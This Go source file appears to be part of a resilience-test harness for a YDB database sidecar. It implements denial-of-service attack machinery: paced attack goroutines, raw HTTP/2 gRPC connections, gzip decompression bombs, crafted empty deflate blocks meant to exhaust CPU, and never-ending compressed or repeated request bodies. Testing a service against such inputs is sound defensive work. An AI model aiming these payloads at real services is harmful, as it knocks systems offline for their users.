package hostile

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"slices"
	"strconv"
	"sync"
	"time"

	"google.golang.org/protobuf/proto"

	"github.com/ydb-sidecar/sidecar/proof/stand"
)

// Target is what is attacked.
type Target struct {
	GRPC, HTTP string // addresses
	Ticket     string // of a user of the database who means harm
}

// Attack is one way to do harm.
type Attack struct {
	Name string // no blanks
	Text string // what it does, for the report
	run  func(ctx context.Context, a *attacker)
}

// attacker is the process of an attack.
type attacker struct {
	Target
	share float64 // of a core

	mu    sync.Mutex // guards all below
	begun time.Time
	last  time.Time // when pace looked
}

// Arguments are the command line of Main.
func (t Target) Arguments(share float64, names ...string) []string {
	return append([]string{t.GRPC, t.HTTP, t.Ticket, strconv.FormatFloat(share, 'g', -1, 64)}, names...)
}

// Burn is an attack that sends nothing: it uses its share of a core.
const Burn = "burn"

// Main attacks as the arguments say, by all attacks that they name at once, until ctx ends.
func Main(ctx context.Context, args []string) error {
	if len(args) < 5 {
		return errors.New("want the arguments GRPC HTTP TICKET SHARE and names of attacks")
	}
	share, err := strconv.ParseFloat(args[3], 64)
	if err != nil || !(share > 0 && share <= 8) {
		return fmt.Errorf("share %q; want a number up to 8", args[3])
	}
	a := &attacker{Target: Target{args[0], args[1], args[2]}, share: share, begun: time.Now()}
	var all sync.WaitGroup
	defer all.Wait()
	for _, name := range args[4:] {
		if name == Burn {
			all.Go(func() { a.burn(ctx) })
			continue
		}
		i := slices.IndexFunc(Attacks, func(k Attack) bool { return k.Name == name })
		if i < 0 {
			return fmt.Errorf("there is no attack %q", name)
		}
		all.Go(func() { Attacks[i].run(ctx, a) })
	}
	return nil
}

// pace waits while the process has used more than its share. What it has left unused for longer than saved is lost. A call
// that comes while one waits here waits as well: neither many at once nor one that rested may take a whole core for a while.
func (a *attacker) pace(ctx context.Context) {
	a.mu.Lock()
	defer a.mu.Unlock()
	now := time.Now()
	if now.Sub(a.last) < time.Millisecond {
		return
	}
	a.last = now
	rest(ctx, a.owes(now, stand.Own()))
}

// saved is how much of its time an attacker may make up for.
const saved = 50 * time.Millisecond

// owes is for how long a process has to rest that has used so much by now.
func (a *attacker) owes(now time.Time, cpu time.Duration) time.Duration {
	due := time.Duration(float64(cpu)/a.share) - now.Sub(a.begun)
	if due < -saved {
		a.begun = a.begun.Add(-due - saved)
	}
	return due
}

func (a *attacker) burn(ctx context.Context) {
	for n := 0; ctx.Err() == nil; n++ {
		for i := range 100_000 {
			n ^= i
		}
		a.pace(ctx)
	}
}

// rest waits for d, or until ctx ends.
func rest(ctx context.Context, d time.Duration) {
	if d <= 0 {
		return
	}
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-timer.C:
	case <-ctx.Done():
	}
}

// errorPause is how long who was turned away waits before it comes again.
const errorPause = 20 * time.Millisecond

// each has n goroutines do f again and again until ctx ends.
func (a *attacker) each(ctx context.Context, n int, f func(context.Context) error) {
	var all sync.WaitGroup
	for range n {
		all.Go(func() {
			for a.pace(ctx); ctx.Err() == nil; a.pace(ctx) {
				if f(ctx) != nil {
					rest(ctx, errorPause)
				}
			}
		})
	}
	all.Wait()
}

// onPeers is each with a connection of HTTP/2 for each goroutine, until the other side ends it.
func (a *attacker) onPeers(ctx context.Context, n int, credit bool, f func(context.Context, *peer) error) {
	a.onPeersOf(ctx, a.GRPC, n, credit, f)
}

func (a *attacker) onPeersOf(ctx context.Context, address string, n int, credit bool, f func(context.Context, *peer) error) {
	a.each(ctx, n, func(ctx context.Context) error {
		p, err := dialPeer(ctx, address, credit)
		if err != nil {
			return err
		}
		defer p.close()
		end := context.AfterFunc(ctx, func() { _ = p.conn.Close() }) // wakes who writes
		defer end()
		for ctx.Err() == nil && err == nil {
			a.pace(ctx)
			err = f(ctx, p)
			select {
			case <-p.gone:
				return errClosed
			default:
			}
		}
		return err
	})
}

// call are the headers of a gRPC call. A ticket of "" is none.
func call(path, ticket string, more ...string) []string {
	fields := []string{":method", "POST", ":scheme", "http", ":path", path, ":authority", "localhost", "content-type",
		"application/grpc", "te", "trailers", "x-ydb-database", "/local"}
	if ticket != "" {
		fields = append(fields, "x-ydb-auth-ticket", ticket)
	}
	return append(fields, more...)
}

// message is a message as gRPC has it.
func message(m proto.Message) []byte {
	data, err := proto.Marshal(m)
	if err != nil {
		panic(err) // it is made here
	}
	return framed(0, data)
}

func framed(flag byte, data []byte) []byte {
	out := append(make([]byte, 0, 5+len(data)), flag)
	return append(binary.BigEndian.AppendUint32(out, uint32(len(data))), data...)
}

// bomb is a compressed message that is many times as long once it is inflated.
func bomb(m proto.Message) []byte {
	data, err := proto.Marshal(m)
	if err != nil {
		panic(err) // it is made here
	}
	return framed(1, zipped(data))
}

func zipped(data []byte) []byte {
	var b bytes.Buffer
	w, _ := gzip.NewWriterLevel(&b, gzip.BestCompression) // a level that there is
	_, _ = w.Write(data)                                  // to memory
	_ = w.Close()                                         // likewise
	return b.Bytes()
}

// barren is gzip of an empty message behind 8*n blocks without contents (RFC 1951, 3.2.7). Their codes need as many tables as there
// may be: 136 for those of more than 9 bits, with places for 15.
func barren(n int) []byte {
	out := append([]byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255}, bytes.Repeat(barrenBlocks, n)...)
	return append(out, 1, 0, 0, 255, 255, 0, 0, 0, 0, 0, 0, 0, 0) // the last block; its sum and its size are 0
}

// slow is about so many bytes of gzip that take as long to read as barren ones, although something
// comes out of them now and then: stored blocks (RFC 1951, 3.2.4) of 32 KiB, which is when a reader
// hands out what it has.
func slow(size int) []byte {
	const stored = 32 << 10
	text := append([]byte{0, stored & 0xff, stored >> 8, ^byte(stored & 0xff), ^byte(stored >> 8)}, bytes.Repeat([]byte{' '}, stored)...)
	blocks := bytes.Repeat(barrenBlocks, 60<<10/len(barrenBlocks))
	out := []byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255}
	for len(out) < size {
		out = append(append(out, blocks...), text...)
	}
	return out // its end does not come
}

var barrenBlocks, _ = hex.DecodeString("" + // it is one
	"cce0030040d9b62c4846ae7deefb3d53b66ddbb66ddbb66ddbb66ddbb66ddbb6edf894197c000028db9605c9c8b5cf7dbf67cab66ddbb66ddbb66ddb" +
	"b66ddbb66ddbb61d9f32830f000065dbb22019b9f6b9eff74cd9b66ddbb66ddbb66ddbb66ddbb66ddbb6e35366f00100a06c5b162423d73ef7fd9e29" +
	"dbb66ddbb66ddbb66ddbb66ddbb66ddb767cca0c3e0000946dcb8264e4dae7bedf3365dbb66ddbb66ddbb66ddbb66ddbb66ddb8e4f99c1070080b26d" +
	"59908c5cfbdcf77ba66cdbb66ddbb66ddbb66ddbb66ddbb66ddbf12933f8000050b62d0b92916b9ffb7ecf946ddbb66ddbb66ddbb66ddbb66ddbb66d" +
	"3b3e65061f0000cab665413272ed73dfef99b26ddbb66ddbb66ddbb66ddbb66ddbb66dc7a7")

// endless is a body of the same text again and again.
type endless struct {
	text string
	left int // bytes
	wait func()
	at   int // in text
}

func (e *endless) Read(p []byte) (n int, err error) {
	if e.wait != nil {
		e.wait()
	}
	if e.left <= 0 {
		return 0, io.EOF
	}
	for n < len(p) && e.left > 0 {
		k := copy(p[n:min(len(p), n+e.left)], e.text[e.at:])
		n, e.left, e.at = n+k, e.left-k, (e.at+k)%len(e.text)
	}
	return n, nil
}
